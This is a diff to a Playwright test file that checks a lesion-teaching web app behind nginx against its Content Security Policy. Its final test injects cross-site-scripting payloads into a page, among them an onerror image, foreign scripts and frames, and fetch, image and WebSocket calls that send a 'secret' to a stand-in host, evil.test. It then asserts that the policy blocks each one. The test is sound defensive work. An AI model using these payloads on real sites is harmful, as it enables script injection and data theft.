@@ -4,18 +4,27 @@ from __future__ import annotations
 
 import base64
 import http.client
+import re
 import socket
 import ssl
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import NamedTuple
 from urllib.parse import urlsplit
 
 import pytest
+from playwright.sync_api import Browser, Page
 
+from benchmarks.browser import CHROMIUM_FLAGS
+from core.imaging.image import to_jpeg
+from core.lesion.phantom import practice_set
 from tests.browser import nginx
-from tests.browser.conftest import App
+from tests.browser.conftest import App, chromium, until
+from tests.browser.test_camera import CAMERAS
+from tests.browser.test_performance import TABS
+from tests.browser.test_router import PAGES
 from tests.waiting import PATIENCE
+from ui.dataset import views
 
 SECRET = "chalk and blackboard"
 LOGIN = {"Authorization": "Basic " + base64.b64encode(
@@ -55,11 +64,21 @@ def _connect(port: int) -> socket.socket:
 
 
 @pytest.fixture(scope="module")
-def site(start_app, tmp_path_factory) -> Iterator[Site]:
+def imported(request: pytest.FixtureRequest) -> Path | None:
+    """The data folder that HAM10000 was imported into, if it was."""
+    try:
+        return request.getfixturevalue("dataset").root.parent
+    except pytest.skip.Exception:
+        return None
+
+
+@pytest.fixture(scope="module")
+def site(start_app, imported, tmp_path_factory) -> Iterator[Site]:
     if not nginx.NGINX or not nginx.OPENSSL:
         pytest.skip("nginx or openssl is not installed: apt install nginx-light openssl")
     folder = tmp_path_factory.mktemp("nginx")
     app = start_app(
+        data=imported,
         LESIONLAB_TEACHER=SECRET,
         STREAMLIT_BROWSER_SERVER_ADDRESS=nginx.NAME,
         STREAMLIT_SERVER_ALLOWED_HOSTS=nginx.NAME,
@@ -121,3 +140,193 @@ def test_too_large_uploads_end_at_nginx(site: Site) -> None:
         "/_stcore/upload_file/session/file", "PUT", None, Content_Length=str(300 * 2**20), **LOGIN
     )
     assert answer.status == 413
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    """A browser that takes the class's address for this computer, and finds no other host."""
+    flags = [flag for flag in CHROMIUM_FLAGS if not flag.startswith("--host-resolver-rules")]
+    rules = f"--host-resolver-rules=MAP {nginx.NAME} 127.0.0.1, MAP * ~NOTFOUND"
+    with chromium(*flags, rules) as browser:
+        yield browser
+
+
+REFUSED = re.compile("^(.{,80}).*Content Security Policy.*directive:? (.*)", re.DOTALL)
+"""What the console says of it."""
+
+
+class Student(NamedTuple):
+    """A browser that has the class's password.
+
+    Attributes:
+        page: empty at first.
+        refused: what its console said of the Content-Security-Policy: what was refused, and why.
+        hosts: that it asked for anything.
+    """
+
+    page: Page
+    refused: list[tuple[str, str]]
+    hosts: set[str]
+
+
+@pytest.fixture
+def student(browser: Browser, site: Site) -> Iterator[Student]:
+    context = browser.new_context(
+        base_url=f"https://{nginx.NAME}:{site.https}",
+        ignore_https_errors=True,
+        http_credentials={"username": nginx.USER, "password": nginx.PASSWORD},
+        reduced_motion="reduce",
+        viewport={"width": 1440, "height": 1600},
+    )
+    context.set_default_timeout(1000 * PATIENCE)
+    found = Student(context.new_page(), [], set())
+
+    def asked(url: str) -> None:
+        parts = urlsplit(url)
+        if parts.scheme not in ("data", "blob", "about"):
+            found.hosts.add(f"{parts.scheme}://{parts.hostname}")
+
+    context.on("request", lambda request: asked(request.url))
+    found.page.on("websocket", lambda socket: asked(socket.url))
+    context.on("console", lambda said: found.refused.extend(REFUSED.findall(said.text)))
+    yield found
+    context.close()
+
+
+OWN = {f"https://{nginx.NAME}", f"wss://{nginx.NAME}"}
+
+
+def test_an_upload_and_all_that_explains_it_work_under_the_policy(
+    student: Student, wait_idle: Callable[..., None]
+) -> None:
+    page = student.page
+    page.goto("/")
+    wait_idle(page)
+    page.get_by_text("Your photo").click()
+    wait_idle(page)
+    photo = to_jpeg(practice_set()[0].image.rgb)
+    page.locator('input[type="file"]').set_input_files(
+        files=[{"name": "mole.jpg", "mimeType": "image/jpeg", "buffer": photo}]
+    )
+    image = page.get_by_role("img", name="Photo mole.jpg")
+    image.wait_for()
+    wait_idle(page)
+    page.keyboard.press("o")
+    page.locator("path.line").wait_for()
+    page.keyboard.press("h")
+    page.locator("img.heat").wait_for()
+    wait_idle(page)
+    for shown in (image, page.locator("img.heat")):
+        assert shown.evaluate("img => img.complete && img.naturalWidth > 0")
+    assert page.locator("li .track").count() == 7
+    for name in ("Heatmaps", "Measurements", "Choose a threshold", "Other patients", "How sure?",
+                 "Similar cases", "Report"):  # fmt: skip
+        page.get_by_role("radio", name=name).click()
+        page.wait_for_timeout(300)
+        wait_idle(page)
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Report (HTML)").click()
+    assert download.value.path().read_bytes().startswith(b"<!doctype html>")
+    page.get_by_text("Camera", exact=True).click()
+    page.wait_for_function(CAMERAS)
+    page.get_by_role("button", name="Take Photo").click()
+    page.get_by_role("img", name="Photo Camera photo").wait_for()
+    wait_idle(page)
+    assert not set(student.refused)
+    assert student.hosts == OWN
+
+
+def test_every_page_and_its_charts_work_under_the_policy(
+    student: Student, wait_idle: Callable[..., None], imported: Path | None
+) -> None:
+    page = student.page
+    for path, (_, heading) in PAGES.items():
+        page.goto(path)
+        wait_idle(page)
+        page.get_by_role("heading", name=heading, exact=True, level=1).wait_for()
+    page.goto("/performance")
+    for tab in TABS:
+        page.get_by_role("tab", name=tab).click()
+        page.wait_for_timeout(300)
+        wait_idle(page)
+    page.get_by_role("tab", name="Calibration").click()
+    page.locator(".js-plotly-plot .main-svg").first.wait_for()
+    page.goto("/quiz")
+    page.get_by_label("Nickname").fill("Anna")
+    page.keyboard.press("Enter")
+    page.get_by_role("radio", name="Draw the outline").click()
+    wait_idle(page)
+    page.get_by_role("button", name="Start").click()
+    page.get_by_role("application").wait_for()
+    if imported:
+        page.goto("/dataset")
+        wait_idle(page)
+        page.locator(".js-plotly-plot .bars .point path").first.wait_for()
+        page.get_by_role("tab", name=views.MAP.split(": ")[-1]).click()
+        page.locator(".js-plotly-plot .gl-canvas").first.wait_for()
+        wait_idle(page)
+    assert not set(student.refused)
+    assert student.hosts == OWN
+
+
+RUN = "window.injected = true"
+INJECTED = {
+    "a script in the page": (
+        f"element('script', {{textContent: '{RUN}'}})", "script-src-elem"
+    ),
+    "another site's script": (
+        "element('script', {src: 'https://evil.test/a.js'})", "script-src-elem"
+    ),
+    "an event's script": (
+        f"document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"{RUN}\">')",
+        "script-src-attr",
+    ),
+    "another site's frame": ("element('iframe', {src: 'https://evil.test/'})", "frame-src"),
+    "a plugin": ("element('object', {data: 'https://evil.test/a.swf'})", "object-src"),
+    "another site's form": (
+        "element('form', {action: 'https://evil.test/', method: 'post'}).submit()", "form-action"
+    ),
+    "other addresses for all links": (
+        "element('base', {href: 'https://evil.test/'})", "base-uri"
+    ),
+    "a picture that carries something away": (
+        "element('img', {src: 'https://evil.test/?secret'})", "img-src"
+    ),
+    "a request that carries something away": (
+        "fetch('https://evil.test/?secret').catch(() => {})", "connect-src"
+    ),
+    "a connection that carries something away": (
+        "new WebSocket('wss://evil.test/')", "connect-src"
+    ),
+}  # fmt: skip
+"""What somebody got into a page, and the part of the policy that refuses it."""
+INJECT = """what => {
+    window.refused = [];
+    document.addEventListener(
+        'securitypolicyviolation', e => window.refused.push(e.effectiveDirective));
+    const element = (name, given) => {
+        const made = Object.assign(document.createElement(name), given);
+        document.body.append(made);
+        return made;
+    };
+    try { (%s) } catch (error) { window.thrown = String(error); }
+}"""
+
+
+def test_what_is_injected_into_a_page_is_refused(
+    student: Student, wait_idle: Callable[..., None], site: Site
+) -> None:
+    page = student.page
+    page.goto("/about")
+    wait_idle(page)
+    for name, (script, directive) in INJECTED.items():
+        page.evaluate(INJECT % script)
+        until(page, lambda expected=directive: expected in page.evaluate("window.refused"))
+        assert page.evaluate("window.injected") is None, name
+    assert f"https://{nginx.NAME}" in page.url
+    assert student.refused
+    # Without the policy the same script runs: it is the policy that stops it.
+    page.goto(site.app.url.replace("127.0.0.1", nginx.NAME))
+    wait_idle(page)
+    page.evaluate(INJECT % INJECTED["a script in the page"][0])
+    assert page.evaluate("window.injected") is True
